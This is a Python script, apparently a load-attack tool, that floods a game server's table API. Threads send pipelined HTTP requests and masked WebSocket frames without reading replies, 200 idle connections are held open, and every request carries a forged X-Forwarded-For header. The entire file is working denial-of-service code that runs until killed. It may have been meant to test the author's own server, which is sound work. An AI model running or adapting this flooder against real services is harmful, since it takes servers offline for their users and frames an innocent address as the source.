"""A denial-of-service attacker at full speed: `flood.py HOST:PORT GAME ADDRESS` runs until it is killed.

Its threads send frames and HTTP requests without reading the answers; it also holds idle connections open. A
proxy header tells the server that the traffic comes from ADDRESS. A line is printed once the attack has
begun.
"""

import json
import os
import socket
import sys
import threading
import time
from collections.abc import Callable

FRAMES_AT_ONCE = 200
IDLE_CONNECTIONS = 200


def masked(text: str) -> bytes:
    """Encode text as a masked WebSocket frame."""
    body, key = text.encode(), os.urandom(4)
    length = bytes([0x80 | len(body)]) if len(body) < 126 else b"\xfe" + len(body).to_bytes(2)
    return b"\x81" + length + key + bytes(byte ^ key[place % 4] for place, byte in enumerate(body))


def frame(type: str, game: str) -> bytes:
    """Return an encoded protocol frame of this type."""
    return masked(json.dumps({"v": 1, "id": "a" * 40, "game": game, "ply": 0, "type": type, "seat": None}))


def open_socket(connection: socket.socket, game: str, address: str) -> None:
    """Upgrade the connection and say hello to a table; raise `OSError` if refused."""
    host, port = connection.getpeername()
    head = (
        f"GET /api/tables/{game}/socket HTTP/1.1\r\nHost: {host}:{port}\r\nX-Forwarded-For: {address}\r\n"
        "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
    )
    connection.sendall(head.encode())
    if b" 101 " not in connection.recv(4096):
        raise ConnectionRefusedError
    connection.sendall(frame("hello", game))


def flood_socket(server: tuple[str, int], game: str, address: str) -> None:
    """Open a socket and send frames until it fails."""
    sync = frame("sync", game)
    with socket.create_connection(server, timeout=2) as one:
        open_socket(one, game, address)
        while True:
            one.sendall(sync * FRAMES_AT_ONCE)


def flood_http(server: tuple[str, int], game: str, address: str) -> None:
    """Request a table over one connection without reading the answers, until it fails."""
    head = f"GET /api/tables/{game} HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: {address}\r\n\r\n".encode()
    with socket.create_connection(server, timeout=2) as one:
        while True:
            one.sendall(head * FRAMES_AT_ONCE)


def main() -> None:
    """Run the attack."""
    host, _, port = sys.argv[1].partition(":")
    server, game, address = (host, int(port)), *sys.argv[2:]

    def repeat(attack: Callable[[tuple[str, int], str, str], None]) -> None:
        while True:
            try:
                attack(server, game, address)
            except OSError:
                time.sleep(0.001)

    held = [socket.create_connection(server) for _ in range(IDLE_CONNECTIONS)]
    for attack in (flood_socket, flood_socket, flood_socket, flood_http):
        threading.Thread(target=repeat, args=(attack,), daemon=True).start()
    print(f"{len(held)} connections are open", flush=True)
    time.sleep(3600)


if __name__ == "__main__":
    main()
